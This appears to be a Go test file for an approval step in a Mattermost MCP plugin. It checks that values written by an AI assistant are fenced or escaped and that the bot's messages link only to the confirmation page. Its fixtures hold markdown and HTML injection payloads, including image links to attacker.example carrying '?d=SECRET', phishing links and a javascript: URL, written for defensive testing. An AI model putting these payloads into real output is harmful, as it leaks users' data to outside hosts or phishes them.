package approval

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/mattermost/mattermost/server/public/plugin/plugintest"
	"github.com/stretchr/testify/mock"

	"github.com/mcp-server/mattermost-plugin-mcp/server/mattermost"
	"github.com/mcp-server/mattermost-plugin-mcp/server/posting"
)

// hostile are values full of markdown a model could choose: images and
// links with its own targets, bare addresses, mentions, fences, newlines.
var hostile = []string{
	"x: ![a](https://attacker.example/p.png?d=SECRET) :x",
	"[Open the confirmation](https://attacker.example/phish)",
	"@all see https://attacker.example/bare and www.attacker.example or Www.attacker.example, HTTPS://attacker.example/up or me@attacker.example <https://attacker.example/auto>",
	"```\n![a](https://attacker.example/fence.png)\n```",
	"one\n# Approved\n> by the admin\n- ![i](https://attacker.example/nl.png)",
	"`` ` `` [x](https://attacker.example/tick) `",
	"[ref][1]\n\n[1]: https://attacker.example/ref",
	"~town-square #tag **bold** _it_ | a | b |",
	"a\u2424> ![a](https://attacker.example/p.png?d=SECRET)",
	"a\u2424````\u2424[x](https://attacker.example/fence)",
	"[x](javascript:alert(1)) http:/attacker.example/x mailto:a@attacker.example",
}

// outsideFences is a message without its fenced code blocks.
func outsideFences(msg string) string {
	var out []string
	fence := ""
	for _, line := range strings.Split(msg, "\n") {
		switch {
		case fence == "" && strings.HasPrefix(line, "```"):
			fence = line
		case fence != "" && line == fence:
			fence = ""
		case fence == "":
			out = append(out, line)
		}
	}
	return strings.Join(out, "\n")
}

// hostilePlans are a plan of every kind of write with v in every value the
// model chose, and in the names others wrote (a channel's, a team's).
func hostilePlans(v string) []posting.Plan {
	place := posting.Destination{ChannelID: "c", Label: "~town (id c)", Place: v + ", Acme", Where: v + " (~town), a public channel of team " + v}
	ch := &posting.ChannelSpec{ID: "c", TeamID: "t", Team: v, Name: "harbour", DisplayName: v, Purpose: v, Header: v}
	target := &posting.PostTarget{AuthorID: "b", Author: "bob", Files: []string{v}}
	bob := []posting.Person{{ID: "b", Username: "bob"}}
	notes := []string{"@bob is notified in " + v + "."}
	return []posting.Plan{
		{CallerID: "alice", Dest: place, Message: v, Notes: notes, Files: []posting.Staged{{Name: v, Size: 3}}},
		{CallerID: "alice", Action: ActionEdit, PostID: "p", Dest: place, Message: v, Previous: v},
		{CallerID: "alice", Action: ActionReact, PostID: "p", Dest: place, Payload: Reaction{Emoji: v}, Previous: v},
		{CallerID: "alice", Action: ActionUnreact, PostID: "p", Dest: place, Payload: Reaction{Emoji: v}, Previous: v},
		{CallerID: "alice", Action: ActionDelete, PostID: "p", Dest: place, Previous: v, Payload: ShownPost{Target: target}, Notes: notes},
		{CallerID: "alice", Action: ActionPin, PostID: "p", Dest: place, Previous: v, Payload: ShownPost{Target: target}},
		{CallerID: "alice", Action: ActionUnpin, PostID: "p", Dest: place, Previous: v, Payload: ShownPost{Target: target}},
		{CallerID: "alice", Action: ActionJoin, Dest: place, Payload: ChannelShown{Channel: ch}, Notes: notes},
		{CallerID: "alice", Action: ActionLeave, Dest: place, Payload: ChannelShown{Channel: ch}, Notes: notes},
		{CallerID: "alice", Action: ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in " + v}, Payload: ChannelMembers{Channel: ch, Members: bob}, Notes: notes},
		{CallerID: "alice", Action: ActionAddMembers, Dest: place, Payload: ChannelMembers{Channel: ch, Members: bob}, Notes: notes},
		{CallerID: "alice", Action: ActionSetStatus, Dest: posting.Destination{Label: "your status", Place: "your status"},
			Payload: NewStatus{Status: &posting.StatusSpec{Availability: "away", Text: v, Emoji: v, Zone: "UTC"}}},
		{CallerID: "alice", Action: ActionSchedule, Dest: place, Message: v, Payload: SendTime{SendAt: time.Date(2031, 1, 2, 8, 0, 0, 0, time.UTC), SendZone: "UTC"}, Notes: notes},
	}
}

func actionOf(p posting.Plan) string {
	if p.Action == "" {
		return "post"
	}
	return p.Action
}

func TestTheBotsMessageAboutAnyWriteLinksOnlyToTheConfirmationPageWhateverTheModelWrote(t *testing.T) {
	a := &Approvals{opts: Options{PluginURL: func() string { return "https://mm.example/plugins/mcp-server" }}}
	page := a.PageURL("rec1")
	for _, v := range hostile {
		for _, plan := range hostilePlans(v) {
			rec := Record{ID: "rec1", State: StatePending, CreatedAt: time.Now(), Action: plan.Action, Place: plan.Dest.PlaceText()}
			dm := a.askingText(plan, rec, time.UTC)
			if links := LinkTargets(dm); len(links) != 1 || links[0] != page {
				t.Errorf("%s with %q: the message links %q, not only the page:\n%s", actionOf(plan), v, links, dm)
			}
			if out := outsideFences(dm); strings.Contains(out, "\n# ") || strings.Contains(out, "\n> ") {
				t.Errorf("%s with %q: a value wrote a line of its own:\n%s", actionOf(plan), v, dm)
			}
			for _, state := range []string{StateDone, StateDeclined, StateFailed} {
				done := rec
				done.State, done.Outcome = state, "Mattermost refused it: "+v
				if state == StateDone {
					done.Permalink = "https://mm.example/acme/pl/p"
				}
				text := a.settledText(done)
				links := LinkTargets(text)
				if len(links) > 1 || (len(links) == 1 && links[0] != done.Permalink) {
					t.Errorf("%s %s with %q: the outcome links %q:\n%s", actionOf(plan), state, v, links, text)
				}
			}
		}
	}
}

func TestTheBotsMessageHoldsEveryValueInOneFencedBlockAndOnlyThePluginsWordsOutsideIt(t *testing.T) {
	a := &Approvals{opts: Options{PluginURL: func() string { return "https://mm.example/plugins/mcp-server" }}}
	v := "a\u2424> ![a](https://attacker.example/p.png?d=SECRET)"
	plan := posting.Plan{CallerID: "alice", Action: ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in Acme"},
		Payload: ChannelMembers{Channel: &posting.ChannelSpec{TeamID: "t", Team: "Acme ``` Ops", Name: "harbour", DisplayName: v, Purpose: "`run` this\r\nnow"}}}
	dm := a.askingText(plan, Record{ID: "r", State: StatePending, CreatedAt: time.Now()}, time.UTC)
	want := "**An AI assistant asks to create a channel as you.** Nothing happens until you accept.\n\n" +
		"````\n" +
		"Create the public channel “a↵> ![a](https://attacker.example/p.png?d=SECRET)” in Acme ``` Ops\n" +
		"Team: Acme ``` Ops\n" +
		"Name (written by the AI): a↵> ![a](https://attacker.example/p.png?d=SECRET)\n" +
		"Address (written by the AI): ~harbour\n" +
		"Kind: public channel: anyone in Acme ``` Ops can find and join it\n" +
		"Purpose (written by the AI): `run` this↵now\n" +
		"Members: only you\n" +
		"````\n\nIt waits for your answer until "
	if !strings.HasPrefix(dm, want) || !strings.HasSuffix(dm, ". [Open the confirmation](https://mm.example/plugins/mcp-server/confirm/r) to accept or decline it.") {
		t.Errorf("the message reads:\n%s\nwant it to begin:\n%s", dm, want)
	}
	// Outside the block only the plugin's words and its link stand.
	if out := outsideFences(dm); strings.Contains(out, "attacker") || strings.Contains(out, "Acme") || strings.Contains(out, "run") {
		t.Errorf("a value stands outside the block:\n%s", out)
	}
}

func TestTheOutcomeOfAWriteSaysWhatBecameOfItInThePluginsWordsAndWhereInTheBlock(t *testing.T) {
	v := "Ops\u2424![a](https://attacker.example/p.png)"
	where := "\n\n```\nWhere: Ops↵![a](https://attacker.example/p.png)"
	rec := Record{ID: "r", Action: ActionPost, Destination: "~ops (id c)", Place: v}
	for _, c := range []struct {
		state, outcome, permalink, want string
	}{
		{StateDone, "", "https://mm.example/acme/pl/p1", "**Posted** after you accepted: https://mm.example/acme/pl/p1" + where + "\n```"},
		{StateDeclined, "", "", "**Declined**: nothing was sent." + where + "\n```"},
		{StateFailed, failedBefore + "Mattermost refused " + v, "", "**Failed** after you accepted: nothing was posted." + where +
			"\nWhy: Mattermost refused Ops↵![a](https://attacker.example/p.png)\n```"},
		{StateWithdrawn, "", "", "**Withdrawn**: the AI assistant took this back before you answered; nothing was posted. It can no longer be accepted." + where + "\n```"},
	} {
		r := rec
		r.State, r.Outcome, r.Permalink = c.state, c.outcome, c.permalink
		if got := OutcomeMessage(r); got != c.want {
			t.Errorf("%s reads:\n%s\nwant:\n%s", c.state, got, c.want)
		}
	}
	if got := OutcomeMessage(Record{State: StateDeclined, Action: ActionSetStatus}); got != "**Declined**: your status was not changed." {
		t.Errorf("a declined status without a place reads %q", got)
	}
}

func TestNoValueOfTheModelsWritesALineOfItsOwnIntoTheClientsQuestionOutsideItsFrame(t *testing.T) {
	for _, v := range hostile {
		for _, plan := range hostilePlans(v) {
			q := Describe(plan)
			inFrame := ""
			for _, line := range strings.Split(q, "\n") {
				switch {
				case inFrame == "" && strings.HasPrefix(line, "----- ") && strings.HasSuffix(line, " -----"):
					inFrame = strings.TrimSuffix(strings.TrimPrefix(line, "----- "), " -----")
					continue
				case inFrame != "" && line == "----- end of "+inFrame+" -----":
					inFrame = ""
					continue
				case inFrame != "":
					continue
				}
				for _, own := range strings.Split(v, "\n")[1:] {
					if own != "" && line == own {
						t.Errorf("%s with %q: %q stands as a line of the question outside a frame:\n%s", actionOf(plan), v, line, q)
					}
				}
			}
			if inFrame != "" {
				t.Errorf("%s with %q: the frame %q never closes:\n%s", actionOf(plan), v, inFrame, q)
			}
		}
	}
}

func TestTheHeadingOnThePageMarksTheModelsValueAndEscapesIt(t *testing.T) {
	f := newRoutes(t)
	v := `<img src="https://attacker.example/p.png">`
	plan := posting.Plan{CallerID: "alice", Action: ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in Acme"},
		Payload: ChannelMembers{Channel: &posting.ChannelSpec{TeamID: "t", Team: "Acme", Name: "harbour", DisplayName: v}}}
	rec, err := f.store.Create("alice", Title(plan), plan, nil)
	if err != nil {
		t.Fatal(err)
	}
	page := f.do("GET", Path+"/"+rec.ID, "alice").Body.String()
	want := `<h1 id="heading">Create the public channel <code class="by-ai" title="Written by the AI">` + htmlEscaped(v) + `</code> in Acme</h1>`
	if !strings.Contains(page, want) || strings.Contains(page, "<img src=\"https://attacker") {
		t.Fatalf("the page's heading is not %q:\n%s", want, page)
	}
}

func TestAnAnsweredReactionStillNamesItsEmojiThoughItsPlanIsDropped(t *testing.T) {
	f := newRoutes(t)
	a := testApprovals(f)
	plan := posting.Plan{CallerID: "alice", Action: ActionReact, PostID: "p1", Payload: Reaction{Emoji: "tada"}, Previous: "we shipped",
		Dest: posting.Destination{ChannelID: "c", Label: "~town-square"}}
	rec, err := f.store.Create("alice", Title(plan), plan, nil)
	if err != nil {
		t.Fatal(err)
	}
	done, err := f.store.Accept(context.Background(), (*mattermost.Gateway)(nil).As("alice"), rec.ID, a.run)
	if err != nil || done.Plan != nil {
		t.Fatalf("accept: %+v %v", done, err)
	}
	if o := a.outcome(done); EmojiOf(o.Plan) != "tada" || o.Plan.Action != ActionReact {
		t.Fatalf("the outcome's plan is %+v", o.Plan)
	}
}

func TestABotsMessageThatWouldStillRenderALinkOfTheModelsIsReplacedByOneWithThePageAlone(t *testing.T) {
	api := &plugintest.API{}
	api.On("LogError", mock.Anything, mock.Anything, mock.Anything).Return()
	a := &Approvals{opts: Options{
		MM:        mattermost.NewGateway(api, nil),
		PluginURL: func() string { return "https://mm.example/plugins/mcp-server" },
	}}
	page := a.PageURL("rec1")
	fine := "**Post**: asked. [Open the confirmation](" + page + ") to accept or decline it."
	if got := a.onlyLinksTo(fine, "rec1", page); got != fine {
		t.Fatalf("a message linking only the page was changed: %q", got)
	}
	for _, slipped := range []string{
		fine + " ![a](https://attacker.example/p.png?d=SECRET)",
		fine + " [Open the confirmation](https://attacker.example/phish)",
		fine + " https://attacker.example/auto",
		fine + "\n\n[x]: https://attacker.example/ref\n[see][x]",
	} {
		got := a.onlyLinksTo(slipped, "rec1", page)
		if strings.Contains(got, "attacker.example") || !strings.Contains(got, page) {
			t.Errorf("a message with a link of the model's was sent as %q", got)
		}
		if links := LinkTargets(got); len(links) != 1 || links[0] != page {
			t.Errorf("the replacement links %v, not the page alone", links)
		}
	}
	api.AssertNumberOfCalls(t, "LogError", 4)
}
